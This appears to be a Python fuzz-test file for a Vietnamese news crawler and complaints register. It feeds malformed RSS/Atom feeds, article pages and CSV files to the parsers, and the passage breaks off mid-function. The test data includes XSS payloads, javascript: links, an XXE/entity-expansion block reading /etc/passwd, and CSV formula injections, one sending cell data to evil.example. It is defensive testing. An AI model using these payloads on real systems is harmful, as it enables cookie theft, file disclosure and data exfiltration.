"""Fuzzing the three doors bad input comes through: feeds, article pages and register files.

The project's rule for bad input: it gets a clear error, is recorded, and loses nothing else.
Each test checks that rule on every input it generates, 10,330 in all (and 400 unreadable files):

- feeds (3,500 documents): a well-formed feed keeps every entry with a usable link and its
  plausible date; a malformed one never crashes, and every entry left out or date dropped is a
  fetch-log problem; the spider's callback records those problems and requests the entries;
- article pages (3,400): the extract stage gives an article whose text is NFC and holds no
  ``<script`` (markup never leaks into text), or rejects the page with a reason that is in the
  fetch log;
- register rows (3,430, in 490 CSV files of 7 rows): every bad row is reported with its row
  number and the column at fault, a file without bad rows imports every row (formula-like text
  kept as text, neutralised again on export), and a file that cannot be decoded is refused
  whole with one clear error.

Runs are derandomized (the same inputs every run) under the profile registered below; inputs
that once crashed are pinned with ``@example``.
"""

from __future__ import annotations

import codecs
import csv
import io
import itertools
import re
import unicodedata
from dataclasses import dataclass
from datetime import UTC, date, datetime, timedelta, timezone
from email.utils import format_datetime
from pathlib import Path
from types import SimpleNamespace
from typing import Any
from urllib.parse import urljoin, urlsplit

import pytest
import scrapy
from hypothesis import HealthCheck, event, example, given, settings
from hypothesis import strategies as st
from scrapy.http import Response

from complaints.register import ComplaintRegister
from complaints.rows import case_key
from complaints.tabular import TableFileError, export_file, import_file
from crawlers.canonical import clean_url
from crawlers.entities import EntityExtractor
from crawlers.errors import StageFailure
from crawlers.feed_entries import FeedParseResult, FeedProblem, parse_feed
from crawlers.feed_state import FeedStates
from crawlers.fetch_log import FetchLog
from crawlers.items import EnrichedArticle, FetchedPage
from crawlers.pipelines import ExtractStage
from crawlers.report import CrawlReport
from crawlers.seen import SeenUrls
from crawlers.spiders.news import NewsSpider
from crawlers.vietnamese_dates import check_plausible
from indexer.layout import IndexNames
from indexer.models import Complaint, Source
from indexer.vietnamese import normalize

settings.register_profile(
    "diemnong-fuzz",
    derandomize=True,
    deadline=None,
    database=None,
    print_blob=False,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
)


def fuzz(examples: int) -> settings:
    return settings(settings.get_profile("diemnong-fuzz"), max_examples=examples)


SOURCE = Source(name="Báo Mẫu", domain="baomau.vn")
FEED_URL = "https://baomau.vn/rss/thoi-su.rss"
PAGE_URL = "https://baomau.vn/thoi-su/nguoi-dan-khieu-nai-123.html"
NOW = datetime(2026, 3, 1, 2, 0, tzinfo=UTC)
TODAY = date(2025, 12, 31)
ROWS_PER_FILE = 7
_TONES = "\u0300\u0301\u0303\u0309\u0323"
_XML_ILLEGAL = re.compile("[^\t\n\r\x20-\ud7ff\ue000-\ufffd\U00010000-\U0010ffff]")
_SENTENCES = (
    "Người dân xã Tả Thanh Oai khiếu nại về việc bồi thường khi thu hồi đất.",
    "UBND tỉnh Ninh Bình cho biết sẽ trả lời báo chí trong 24 giờ.",
    "Mưa lớn gây ngập nhiều tuyến đường ở phường Hàng Bạc, Hà Nội.",
    unicodedata.normalize("NFD", "Khánh Hòa họp báo về sự cố môi trường ở đặc khu."),
    "Kh¸nh Hßa bÞ ngËp s©u sau b·o",  # TCVN3 font text read as Latin-1
    "Khaùnh Hoøa bò ngaäp saâu",  # VNI font text read as Latin-1
)
_XSS = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    '"><script>alert(document.cookie)</script>',
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<scr<script>ipt>alert(1)</script>",
    '<a href="javascript:alert(1)">bấm vào đây</a>',
    "<style>p{background:url(javascript:alert(1))}</style>",
    "<!--<script>alert(1)</script>-->",
    '<noscript><p title="</noscript><script>alert(1)</script>">',
)
_TEXTS = st.one_of(
    st.sampled_from(("", "   ", "Tết & lễ <b>đậm</b>", "]]>", "x" * 20_000, *_SENTENCES, *_XSS)),
    st.text(max_size=40),
)


def _escape(text: str) -> str:
    text = _XML_ILLEGAL.sub("", text)
    return (
        text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace('"', "&quot;")
    )


def _cp1258_spelling(char: str) -> str | None:
    """A base letter windows-1258 has plus a combining tone, for a letter it lacks ("ế")."""
    parts = unicodedata.normalize("NFD", char)
    tone = next((mark for mark in parts if mark in _TONES), "")
    spelled = unicodedata.normalize("NFC", parts.replace(tone, "", 1)) + tone if tone else None
    try:
        return spelled if spelled and spelled.encode("cp1258") else None
    except UnicodeEncodeError:
        return None


_CP1258_SPELLING = str.maketrans(
    {c: s for c in map(chr, range(0xC0, 0x1F00)) if (s := _cp1258_spelling(c)) is not None}
)


def to_cp1258(text: str) -> bytes:
    """Windows-1258 bytes the way Vietnamese Windows writes them (a base letter plus a combining
    tone); characters it cannot hold become numeric character references."""
    spelled = unicodedata.normalize("NFC", text).translate(_CP1258_SPELLING)
    return spelled.encode("cp1258", errors="xmlcharrefreplace")


def encode(text: str, encoding: str) -> bytes:
    if encoding == "cp1258":
        return to_cp1258(text)
    if encoding == "utf-16":
        return text.encode("utf-16")
    return text.encode(encoding, errors="xmlcharrefreplace")


_CORRUPTIONS = st.one_of(
    st.tuples(st.just("truncate"), st.floats(0, 1)),
    st.tuples(st.just("insert"), st.floats(0, 1), st.binary(min_size=1, max_size=12)),
    st.tuples(
        st.just("insert"),
        st.floats(0, 1),
        st.sampled_from((b"\xff\xfe", b"\x80\x81\x8d", b"\xc3(", b"\x00\x00", b"\xed\xa0\x80")),
    ),
    st.tuples(st.just("bom"), st.sampled_from((codecs.BOM_UTF8, codecs.BOM_UTF16_LE))),
    st.tuples(st.just("replace"), st.binary(max_size=64)),
)


def corrupt(body: bytes, corruptions: list[tuple[Any, ...]]) -> bytes:
    for kind, *args in corruptions:
        if kind == "truncate":
            body = body[: int(len(body) * args[0])]
        elif kind == "insert":
            at = int(len(body) * args[0])
            body = body[:at] + args[1] + body[at:]
        elif kind == "bom":
            body = args[0] + body
        else:
            body = args[0]
    return body


# -- feeds -----------------------------------------------------------------------------------

_GOOD_LINKS = (
    "https://baomau.vn/thoi-su/tin-{n}.html",
    "/thoi-su/tin-{n}.html",
    "tin-{n}.html",
    "//baomau.vn/a-{n}.html",
    "https://baomau.vn/a.html?id={n}&utm_source=rss",
    "  https://baomau.vn/khoang-trang-{n}.html\n",
    "https://baomau.vn/đường-{n}.html",
    "https://baomau.vn/" + "a" * 3000 + "-{n}",
)
_BAD_LINKS = (
    "javascript:alert(document.cookie)",
    "mailto:toasoan@baomau.vn",
    "data:text/html,<script>alert(1)</script>",
    "http://[::1",
    "ftp://baomau.vn/a.txt",
    "http:khong-co-may",
    "https://baomau.vn:99999/tin.html",
    "https://baomau.vn:abc/tin.html",
    "vbscript:msgbox(1)",
)
_BAD_DATES = (
    "31/02/2021",
    "hôm qua",
    "Thu, 31 Feb 2021 10:00:00 +0700",
    "2021-02-30T10:00:00Z",
    "Fri, 31 Dec 9999 23:59:59 -1200",
    "Mon, 01 Jan 0001 00:00:00 +1400",
    "9999-12-31T23:59:59-23:59",
    "0000-01-01T00:00:00Z",
    "0",
    "9" * 30,
)


@dataclass
class EntrySpec:
    link: str | None
    link_ok: bool
    date: datetime | str | None
    date_kind: str
    title: str
    summary: str


@dataclass
class FeedCase:
    body: bytes
    content_type: str
    entries: list[EntrySpec]


def _entry_spec(draw: Any, n: int, atom: bool) -> EntrySpec:
    link_kind = draw(st.sampled_from(("good", "good", "good", "bad", "missing")))
    if link_kind == "good":
        link: str | None = draw(st.sampled_from(_GOOD_LINKS)).format(n=n)
    elif link_kind == "bad":
        link = draw(st.sampled_from(_BAD_LINKS))
    else:
        link = None if atom else draw(st.sampled_from((None, "", "   ")))
    date_kind = draw(st.sampled_from(("ok", "ok", "future", "early", "garbage", "missing")))
    value: datetime | str | None = None
    if date_kind == "garbage":
        value = draw(st.sampled_from(_BAD_DATES))
    elif date_kind != "missing":
        low, high = {
            "ok": (datetime(2000, 1, 1), datetime(2026, 2, 27)),
            "future": (datetime(2026, 3, 2), datetime(2100, 1, 1)),
            "early": (datetime(1900, 1, 1), datetime(1989, 12, 30)),
        }[date_kind]
        seconds = draw(st.integers(0, int((high - low).total_seconds())))
        offset = timezone(timedelta(hours=draw(st.sampled_from((0, 7, -5)))))
        value = (low + timedelta(seconds=seconds)).replace(tzinfo=offset)
    return EntrySpec(link, link_kind == "good", value, date_kind, draw(_TEXTS), draw(_TEXTS))


def _feed_text(entries: list[EntrySpec], atom: bool, encoding: str, escape: bool) -> str:
    def text(value: str) -> str:
        return _escape(value) if escape else value

    def when(value: datetime | str | None) -> str:
        if isinstance(value, datetime):
            return value.isoformat() if atom else format_datetime(value)
        return text(value or "")

    items = []
    for n, spec in enumerate(entries):
        if atom:
            link = "" if spec.link is None else f'<link rel="alternate" href="{text(spec.link)}"/>'
            date = "" if spec.date is None else f"<published>{when(spec.date)}</published>"
            items.append(
                f"<entry><title>{text(spec.title)}</title>{link}<id>urn:tin:{n}</id>{date}"
                f"<summary>{text(spec.summary)}</summary></entry>"
            )
        else:
            link = "" if spec.link is None else f"<link>{text(spec.link)}</link>"
            date = "" if spec.date is None else f"<pubDate>{when(spec.date)}</pubDate>"
            items.append(
                f"<item><title>{text(spec.title)}</title>{link}{date}"
                f"<description>{text(spec.summary)}</description></item>"
            )
    head = f'<?xml version="1.0" encoding="{encoding}"?>\n'
    if atom:
        return (
            f'{head}<feed xmlns="http://www.w3.org/2005/Atom"><title>Báo Mẫu</title>'
            f"<id>urn:baomau</id><updated>2026-03-01T08:00:00+07:00</updated>"
            f"{''.join(items)}</feed>"
        )
    return (
        f'{head}<rss version="2.0"><channel><title>Báo Mẫu</title>'
        f"<link>https://baomau.vn/</link><description>Tin mới</description>"
        f"{''.join(items)}</channel></rss>"
    )


_FEED_ENCODINGS = {"utf-8": "utf-8", "windows-1258": "cp1258", "iso-8859-1": "latin-1"}
_BOMB = (
    '<!DOCTYPE rss [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;">'
    '<!ENTITY d "&c;&c;&c;&c;&c;"><!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
)


@st.composite
def feeds(draw: Any, well_formed: bool) -> FeedCase:
    atom = draw(st.booleans())
    count = draw(st.integers(0, 6))
    entries = [_entry_spec(draw, n, atom) for n in range(count)]
    declared = draw(st.sampled_from(sorted(_FEED_ENCODINGS)))
    if well_formed:
        text = _feed_text(entries, atom, declared, escape=True)
        kind = "atom" if atom else "rss"
        content_type = draw(
            st.sampled_from((f"application/{kind}+xml; charset={declared}", "application/xml"))
        )
        return FeedCase(encode(text, _FEED_ENCODINGS[declared]), content_type, entries)
    text = _feed_text(entries, atom, declared, escape=draw(st.booleans()))
    if draw(st.booleans()):
        text = text.replace("?>\n", "?>\n" + _BOMB, 1).replace("Báo Mẫu", "&d;&xxe;&khong;", 1)
    actual = draw(st.sampled_from(("utf-8", "cp1258", "latin-1", "utf-16")))
    content_type = draw(
        st.sampled_from(
            ["", "text/xml", "text/html; charset=utf-8", "application/rss+xml; charset=bogus",
             "application/xml; charset=windows-1258", "application/octet-stream"]
        )
    )  # fmt: skip
    body = corrupt(encode(text, actual), draw(st.lists(_CORRUPTIONS, max_size=3)))
    return FeedCase(body, content_type, entries)


def _check_entries_are_fetchable(result: FeedParseResult) -> None:
    for entry in result.entries:
        parts = urlsplit(entry.url)
        assert parts.scheme.lower() in ("http", "https") and parts.netloc, entry.url
        clean_url(entry.url)
        scrapy.Request(entry.url)
        if entry.published_at is not None:
            assert entry.published_at.tzinfo is not None
            assert check_plausible(entry.published_at, NOW) is None
    entry_urls = {entry.url for entry in result.entries}
    for problem in result.problems:
        assert problem.reason.strip()
        if problem.stage == "feed":
            assert (problem.url, problem.status) == (FEED_URL, 200)
        else:
            assert problem.stage == "feed-date" and problem.url in entry_urls


def _nfc(text: str) -> str:
    return unicodedata.normalize("NFC", text)


def _is_link_problem(problem: FeedProblem) -> bool:
    return problem.stage == "feed" and problem.reason.startswith("entry")


def _feed(
    *links: str | None, atom: bool = False, body: bytes | None = None, date: str | None = None
) -> FeedCase:
    """A feed with one entry per link, for the inputs pinned below."""
    kind = "garbage" if date else "missing"
    entries = [EntrySpec(link, True, date, kind, "Tin", "") for link in links]
    text = _feed_text(entries, atom, "utf-8", escape=True)
    kind = "atom" if atom else "rss"
    return FeedCase(text.encode() if body is None else body, f"application/{kind}+xml", entries)


_RSS_HEAD = b'<?xml version="1.0" encoding="%s"?><rss version="2.0"><channel><item>'


@fuzz(1200)
@given(feeds(well_formed=True))
# was kept as ".../khoang-trang-1.html%20": an Atom href keeps its whitespace
@example(case=_feed("  https://baomau.vn/khoang-trang-1.html\n", atom=True))
@example(case=_feed("https://baomau.vn/a.html", date="0000-01-01T00:00:00Z"))  # ValueError
def test_well_formed_feeds_keep_every_entry_with_a_usable_link(case: FeedCase) -> None:
    result = parse_feed(case.body, FEED_URL, content_type=case.content_type, status=200, now=NOW)
    _check_entries_are_fetchable(result)
    kept = [spec for spec in case.entries if spec.link_ok]
    expected = [urljoin(FEED_URL, (spec.link or "").strip()) for spec in kept]
    assert [_nfc(e.url) for e in result.entries] == [_nfc(url) for url in expected]
    link_problems = [p for p in result.problems if _is_link_problem(p)]
    assert len(link_problems) == len(case.entries) - len(kept)
    assert result.read == len(case.entries)
    must, may = set(), set()
    for entry, spec in zip(result.entries, kept, strict=True):
        if spec.date_kind == "ok":
            assert entry.published_at == spec.date
        elif spec.date_kind != "garbage":
            assert entry.published_at is None
        if spec.date_kind in ("future", "early"):
            must.add(entry.url)
        elif spec.date_kind == "garbage":  # feedparser reads "0001" as 1400, for one
            may.add(entry.url)
    dated = [p.url for p in result.problems if p.stage == "feed-date"]
    assert must <= set(dated) <= must | may and len(dated) == len(set(dated))
    assert len(link_problems) + len(dated) == len(result.problems), result.problems


@fuzz(2000)
@given(feeds(well_formed=False))
@example(case=_feed("https://baomau.vn/a.html", body=b""))  # no entry and not a word said
@example(case=_feed("https://baomau.vn/a.html", body=_RSS_HEAD % b"\x80"))  # feedparser raised
@example(case=_feed("https://baomau.vn/a.html", body=_RSS_HEAD % b"utf-8\x00"))  # ValueError
def test_malformed_feeds_never_crash_and_name_every_entry_left_out(case: FeedCase) -> None:
    result = parse_feed(case.body, FEED_URL, content_type=case.content_type, status=200, now=NOW)
    _check_entries_are_fetchable(result)
    link_problems = [p for p in result.problems if _is_link_problem(p)]
    assert len(result.entries) + len(link_problems) == result.read
    event(f"{len(result.entries)} of {len(case.entries)} entries kept")
    if result.read < len(case.entries):
        assert any(p.stage == "feed" and not _is_link_problem(p) for p in result.problems)
    for problem in result.problems:
        assert "root:" not in problem.reason
    for entry in result.entries:
        assert "root:" not in (entry.title or "")


class RecordingFetchLog(FetchLog):
    """The real fetch log (no engine: entries go to its backlog file) that also keeps a list."""

    def __init__(self, folder: Path) -> None:
        super().__init__(None, IndexNames("fuzz-"), folder / "fetch-log.jsonl")
        self.recorded: list[tuple[str, str | None, str, str, int | None]] = []

    def record(
        self, url: str, outlet: str | None, stage: str, reason: str, status: int | None = None
    ) -> None:
        super().record(url, outlet, stage, reason, status)
        self.recorded.append((url, outlet, stage, reason, status))


@pytest.fixture(scope="module")
def services(tmp_path_factory: pytest.TempPathFactory) -> Any:
    """What the spider and the extract stage use of `CrawlServices`, without an engine."""
    folder = tmp_path_factory.mktemp("fuzz-crawl")
    return SimpleNamespace(
        settings=SimpleNamespace(crawler=SimpleNamespace(max_section_pages=1)),
        entities=EntityExtractor(),
        fetch_log=RecordingFetchLog(folder),
        seen=SeenUrls(Path(":memory:")),  # SQLite's own in-memory name: no fsync per page
        report=CrawlReport(),
        feeds=FeedStates(folder / "feeds.json", 60, 3600),
    )


@fuzz(300)
@given(case=feeds(well_formed=False))
@example(case=_feed("https://baomau.vn:99999/tin.html"))  # clean_url raised in the callback
def test_the_spider_records_each_feed_problem_and_requests_each_entry(
    services: Any, case: FeedCase
) -> None:
    spider = NewsSpider(services, [SOURCE])
    request = scrapy.Request(FEED_URL, meta={"source": SOURCE, "feed_url": FEED_URL})
    headers = {"Content-Type": case.content_type} if case.content_type else {}
    response = Response(FEED_URL, status=200, headers=headers, body=case.body, request=request)
    polls = services.feeds.get(FEED_URL).polls
    recorded = len(services.fetch_log.recorded)
    requests = list(spider.parse_feed(response))
    expected = parse_feed(case.body, FEED_URL, content_type=case.content_type, status=200)
    assert [r.url for r in requests] == [scrapy.Request(e.url).url for e in expected.entries]
    assert all(r.meta["source"] is SOURCE and r.meta["via"] == "feed" for r in requests)
    mine = services.fetch_log.recorded[recorded:]
    assert [(url, stage, status) for url, _, stage, _, status in mine] == [
        (p.url, p.stage, p.status) for p in expected.problems
    ]
    assert all(outlet == SOURCE.name for _, outlet, *_ in mine)
    assert services.feeds.get(FEED_URL).polls == polls + 1


def test_article_pages_go_before_listing_pages(services: Any) -> None:
    """Scrapy takes higher priorities first: a found article is fetched before more listings."""
    source = SOURCE.model_copy(
        update={"feeds": [FEED_URL], "sitemaps": ["https://baomau.vn/sitemap.xml"],
                "sections": ["https://baomau.vn/thoi-su"]}
    )  # fmt: skip
    listing = list(NewsSpider(services, [source])._initial_requests())
    article = NewsSpider(services, [source])._article_request(PAGE_URL, source, "feed")
    assert len(listing) == 3 and article is not None
    assert all(request.priority < article.priority for request in listing)


# -- article pages ---------------------------------------------------------------------------

_PAGE_DATES = (
    "2025-03-09T08:00:00+07:00",
    "2099-01-01T00:00:00+07:00",
    "1970-01-01",
    "2021-02-30T10:00:00",
    "Thứ Sáu, 31/02/2021, 05:57 (GMT+7)",
    "Ngày đăng 04/11/2018 | 20:39",
    "99:99 45/13/20000",
    "9" * 400,
    "",
)
_JSON_LD = (
    '{"@type": "NewsArticle", "headline": "&lt;script&gt;alert(1)&lt;/script&gt; Tin nóng",'
    ' "datePublished": "2099-01-01T00:00:00+07:00", "author": {"name": "<b>Lê Phương</b>"}}',
    '{"@type": "NewsArticle", "headline": ',
    '{"@graph": [[[["x"]]]], "@type": ["Article", null]}',
    '{"@type": "BreadcrumbList", "itemListElement": [{"@type": "ListItem", "position": "x"}]}',
    '{"@type": "BreadcrumbList", "itemListElement": [{"@type": "ListItem", "position": 1e400},'
    ' {"@type": "ListItem", "position": {"x": 1}, "name": "Thời sự"}]}',
    '{"@type": "NewsArticle", "author": ' + "[" * 950 + "]" * 950 + "}",
    "[" * 990 + "]" * 990,
    "[" * 5000 + "]" * 5000,
    '{"a":' * 3000 + "1" + "}" * 3000,
)


@dataclass
class PageCase:
    body: bytes
    content_type: str | None
    feed_published_at: datetime | None = None


_PARAGRAPHS = tuple(f"{a} {b}" for a in _SENTENCES for b in (*_SENTENCES, *_XSS))


def _paragraph(draw: Any) -> str:
    return f"<p>{draw(st.sampled_from(_PARAGRAPHS))} {draw(_TEXTS)}</p>"


@st.composite
def pages(draw: Any) -> PageCase:
    title, h1, lead = draw(_TEXTS), draw(st.one_of(st.just(""), _TEXTS)), draw(_TEXTS)
    meta_charset = draw(
        st.sampled_from((None, "utf-8", "windows-1258", "iso-8859-1", "utf-16", "x-khong-co", ""))
    )
    head = [] if meta_charset is None else [f'<meta charset="{meta_charset}">']
    head.append(f"<title>{title}</title>")
    og_title = draw(st.one_of(st.none(), _TEXTS))
    if og_title is not None:
        quoted = og_title.replace('"', "&quot;") if draw(st.booleans()) else og_title
        head.append(f'<meta property="og:title" content="{quoted}">')
    for key in ("article:published_time", "article:modified_time"):
        if draw(st.booleans()):
            head.append(f'<meta property="{key}" content="{draw(st.sampled_from(_PAGE_DATES))}">')
    if draw(st.booleans()):
        head.append(
            f'<script type="application/ld+json">{draw(st.sampled_from(_JSON_LD))}</script>'
        )
    if draw(st.booleans()):
        head.append('<link rel="canonical" href="' + draw(st.sampled_from(_BAD_LINKS)) + '">')
    huge = 'class="' + "x " * 50_000 + '"' if draw(st.integers(0, 9)) == 0 else 'class="main"'
    paragraphs = "".join(_paragraph(draw) for _ in range(draw(st.integers(0, 7))))
    visible = draw(st.sampled_from(_PAGE_DATES))
    html = (
        f"<!DOCTYPE html><html lang=vi><head>{''.join(head)}</head><body {huge}>"
        f'<div class="footer">Bản quyền Báo Mẫu</div><article><h1>{h1}</h1>'
        f'<h2 class="sapo">{lead}</h2>{paragraphs}<span class="date">{visible}</span>'
        f'<time datetime="{draw(st.sampled_from(_PAGE_DATES))}"></time></article></body></html>'
    )
    if draw(st.integers(0, 4)) == 0:
        html = re.sub(r"</[a-z0-9]+>", "", html)
    encoding = draw(st.sampled_from(("utf-8", "utf-8", "cp1258", "latin-1", "utf-16")))
    corruptions = draw(st.lists(_CORRUPTIONS, max_size=2)) if draw(st.booleans()) else []
    body = corrupt(encode(html, encoding), corruptions)
    content_type = draw(
        st.sampled_from(
            [None, "text/html", "text/html; charset=utf-8", "text/html; charset=windows-1258",
             "text/html; charset=latin-1", "text/html; charset=bogus", "application/octet-stream",
             "windows-1258"]
        )
    )  # fmt: skip
    feed_date = draw(st.sampled_from((None, NOW, datetime(2099, 1, 1, tzinfo=UTC))))
    return PageCase(body, content_type, feed_date)


def _fetched(case: PageCase) -> FetchedPage:
    return FetchedPage(
        url=PAGE_URL,
        requested_url=PAGE_URL + "?utm_source=rss",
        status=200,
        body=case.body,
        content_type=case.content_type,
        source=SOURCE,
        fetched_at=datetime.now(UTC),
        via="feed",
        feed_published_at=case.feed_published_at,
    )


def _article_texts(enriched: EnrichedArticle) -> list[str]:
    article = enriched.article
    return [
        article.title,
        article.lead,
        article.body,
        article.section or "",
        *article.authors,
        *article.tags,
    ]


def _extract(services: Any, case: PageCase) -> EnrichedArticle | StageFailure:
    try:
        enriched = ExtractStage(services).process_item(_fetched(case))
    except StageFailure as failure:
        return failure
    assert isinstance(enriched, EnrichedArticle)  # no page workers: done in this process
    return enriched


def _page(head: str, article: str = "", charset: str = "utf-8") -> PageCase:
    """A page with a real body under ``head``, for the inputs pinned below."""
    paragraphs = f"<p>{' '.join(_SENTENCES[:3])}</p>" * 3
    html = (
        f"<html><head><meta charset={charset}>{head}</head>"
        f"<body><article>{article}{paragraphs}</article></body></html>"
    )
    return PageCase(html.encode(), "text/html")


_LIST_ITEM = '{"@type": "ListItem", "position": "x"}'  # int("x") raised


def _ld(data: str) -> str:
    return f'<title>Tin</title><script type="application/ld+json">{data}</script>'


@fuzz(3400)
@given(case=pages())
@example(case=_page('<title>Tin</title><link rel="canonical" href="http://[::1">'))  # ValueError
@example(case=_page(_ld("[" * 5000 + "]" * 5000)))  # RecursionError
@example(case=_page(_ld('{"@type": "BreadcrumbList", "itemListElement": [' + _LIST_ITEM + "]}")))
@example(case=_page(_ld('{"@type": "NewsArticle", "headline": "&lt;script&gt;alert(1)"}')))
@example(case=_page("<title>\u200b</title>", "<h1>\u200b</h1>"))  # indexed with title ""
@example(case=_page("<title>Tin</title>", "<p>é-" + "x" * 20_000 + "</p>"))  # 3 s normalising
def test_pages_become_clean_articles_or_recorded_rejections(services: Any, case: PageCase) -> None:
    recorded = len(services.fetch_log.recorded)
    failed = services.report.total("failed")
    outcome = _extract(services, case)
    event(f"rejected: {outcome.reason}" if isinstance(outcome, StageFailure) else "article")
    if isinstance(outcome, StageFailure):
        assert outcome.stage == "extract" and outcome.reason.strip()
        assert services.fetch_log.recorded[recorded:] == [
            (PAGE_URL, SOURCE.name, "extract", outcome.reason, 200)
        ]
        assert services.report.total("failed") == failed + 1
        assert clean_url(PAGE_URL) in services.seen
        return
    article = outcome.article
    assert article.title.strip()
    for text in _article_texts(outcome):
        assert unicodedata.is_normalized("NFC", text), text[:200]
        assert "<script" not in text.lower(), text[:200]
    if article.published_at is not None:
        assert check_plausible(article.published_at, datetime.now(UTC)) is None
    for url, outlet, stage_name, reason, _ in services.fetch_log.recorded[recorded:]:
        assert (url, outlet, stage_name) == (PAGE_URL, SOURCE.name, "date") and reason


# -- register files --------------------------------------------------------------------------

_HEADERS = {
    "case_number": ("Số hồ sơ", "SỐ HỒ SƠ (*)", "so ho so", "case_number"),
    "kind": ("Loại đơn", "LOAI DON", "kind"),
    "received_date": ("Ngày nhận", "Ngày nhận đơn", "received_date"),
    "complainant": ("Người đứng đơn", "Họ tên"),
    "phone": ("Số điện thoại", "SĐT"),
    "status": ("Trạng thái", "Tình trạng"),
    "people_count": ("Số người",),
    "acceptance_date": ("Ngày thụ lý",),
    "notes": ("Ghi chú", "GHI CHU"),
}
_OPTIONAL = ("complainant", "phone", "status", "people_count", "acceptance_date", "notes")
_KINDS = ("Khiếu nại", "KHIẾU NẠI", "khieu nai", "Tố cáo", "TC", "Kiến nghị", "Phản ánh")
_STATUSES = ("Đã tiếp nhận", "đã thụ lý", "Đang xác minh", "Kết thúc", "rút đơn")
_NAMES = ("Nguyễn Văn An", "Trần Thị Bình", "Lê Phương", "Phạm Đức Chính")
_FORMULAS = (
    '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "=1+1",
)
_DEFECTS = (
    "bad_date", "future_date", "unknown_kind", "missing_case", "duplicate_case",
    "formula_kind", "formula_date", "bad_phone", "accepted_before_received", "too_few_people",
    "ragged_short",
)  # fmt: skip
_DEFECT_COLUMN = {
    "bad_date": "received_date",
    "future_date": "received_date",
    "unknown_kind": "kind",
    "formula_kind": "kind",
    "formula_date": "received_date",
    "missing_case": "case_number",
    "duplicate_case": "case_number",
    "bad_phone": "phone",
    "accepted_before_received": "acceptance_date",
    "too_few_people": "people_count",
    "ragged_short": "received_date",
}
_NEEDS = {
    "bad_phone": ("complainant", "phone"),
    "accepted_before_received": ("acceptance_date",),
    "too_few_people": ("complainant", "people_count"),
}


@dataclass
class RegisterCase:
    body: bytes
    data_rows: int
    bad_rows: dict[int, str]
    good_cases: list[str]
    notes: dict[str, str]
    titles: dict[str, str]


_DATE_FORMATS = ("%d/%m/%Y", "%d-%m-%Y", "%d.%m.%Y", "%Y-%m-%d")
_FIRST_DAY = date(2015, 1, 1)
_PEOPLE = tuple(
    [a, b, c][:count] for a, b, c in itertools.permutations(_NAMES, 3) for count in (1, 2, 3)
)


@st.composite
def register_files(draw: Any) -> RegisterCase:
    optional = draw(st.lists(st.sampled_from(_OPTIONAL), unique=True, max_size=len(_OPTIONAL)))
    if "phone" in optional and "complainant" not in optional:
        optional.append("complainant")
    keys = draw(st.permutations(["case_number", "kind", "received_date", *optional]))
    titles = {key: draw(st.sampled_from(_HEADERS[key])) for key in keys}
    delimiter = draw(st.sampled_from((",", ";")))
    pattern = draw(st.sampled_from(_DATE_FORMATS))
    records: list[list[str]] = []
    if draw(st.booleans()):
        records.append(["SỔ THEO DÕI ĐƠN THƯ NĂM 2025"])
    records.append([titles[key] for key in keys])
    bad_rows: dict[int, str] = {}
    good_cases: list[str] = []
    notes: dict[str, str] = {}
    cases: list[str] = []
    data_rows = ROWS_PER_FILE
    for n in range(data_rows):
        if draw(st.integers(0, 5)) == 0:
            records.append([] if draw(st.booleans()) else [""] * len(keys))
        defect = "none" if draw(st.integers(0, 99)) < 82 else draw(st.sampled_from(_DEFECTS))
        if (
            not set(_NEEDS.get(defect, ())) <= set(keys)
            or (defect == "duplicate_case" and not cases)
            or (defect == "ragged_short" and keys[0] == "received_date")
        ):
            defect = "none"
        received = _FIRST_DAY + timedelta(days=draw(st.integers(0, (TODAY - _FIRST_DAY).days)))
        people = draw(st.sampled_from(_PEOPLE))
        case = draw(st.sampled_from(("{n}/2025/KN", "TC-{n}", "HS {n}", "{n}"))).format(n=n + 1)
        phone = draw(st.sampled_from(("0912 345 678", "+84912345678")))
        values = {
            "case_number": case,
            "kind": draw(st.sampled_from(_KINDS)),
            "received_date": received.strftime(pattern),
            "complainant": "; ".join(people),
            "phone": "; ".join(phone for _ in people),
            "status": draw(st.sampled_from(_STATUSES)),
            "people_count": str(len(people) + draw(st.integers(0, 3))),
            "acceptance_date": min(TODAY, received + timedelta(days=10)).strftime(pattern),
            "notes": draw(st.sampled_from(_FORMULAS + _SENTENCES[:3])),
        }
        if defect == "bad_date":
            values["received_date"] = draw(
                st.sampled_from(("31/02/2024", "2024-13-01", "hôm qua", "00/00/0000", "1/1/99"))
            )
        elif defect == "future_date":
            future = TODAY + timedelta(days=draw(st.integers(1, 999)))
            values["received_date"] = future.strftime(pattern)
        elif defect in ("unknown_kind", "formula_kind"):
            values["kind"] = draw(
                st.sampled_from(
                    ["Khiếu kiện", "xyz", "123"] if defect == "unknown_kind" else _FORMULAS
                )
            )
        elif defect == "formula_date":
            values["received_date"] = draw(
                st.sampled_from(("=TODAY()", "=DATE(2025;1;1)", "@NOW()"))
            )
        elif defect == "missing_case":
            values["case_number"] = draw(st.sampled_from(("", "   ")))
        elif defect == "duplicate_case":
            values["case_number"] = draw(st.sampled_from(cases)).replace("/", " / ")
        elif defect == "bad_phone":
            values["phone"] = "; ".join("12345" for _ in people)
        elif defect == "accepted_before_received":
            values["received_date"] = max(received, date(2015, 1, 2)).strftime(pattern)
            values["acceptance_date"] = _FIRST_DAY.strftime(pattern)
        elif defect == "too_few_people":
            values["complainant"] = "; ".join(_NAMES[:3])
            values["phone"] = "; ".join("0912345678" for _ in range(3))
            values["people_count"] = "2"
        row = [values[key] for key in keys]
        if defect == "ragged_short":
            row = row[: keys.index("received_date")]
        elif draw(st.integers(0, 6)) == 0:
            row += ["thừa", "ô"]
        records.append(row)
        number = len(records)
        if defect == "none":
            good_cases.append(case)
            if "notes" in keys:
                notes[case] = values["notes"]
        else:
            bad_rows[number] = defect
        case_kept = defect != "ragged_short" or keys.index("case_number") < len(row)
        if defect not in ("missing_case", "duplicate_case") and case_kept:
            cases.append(case)
    out = io.StringIO()
    csv.writer(out, delimiter=delimiter, lineterminator="\r\n").writerows(records)
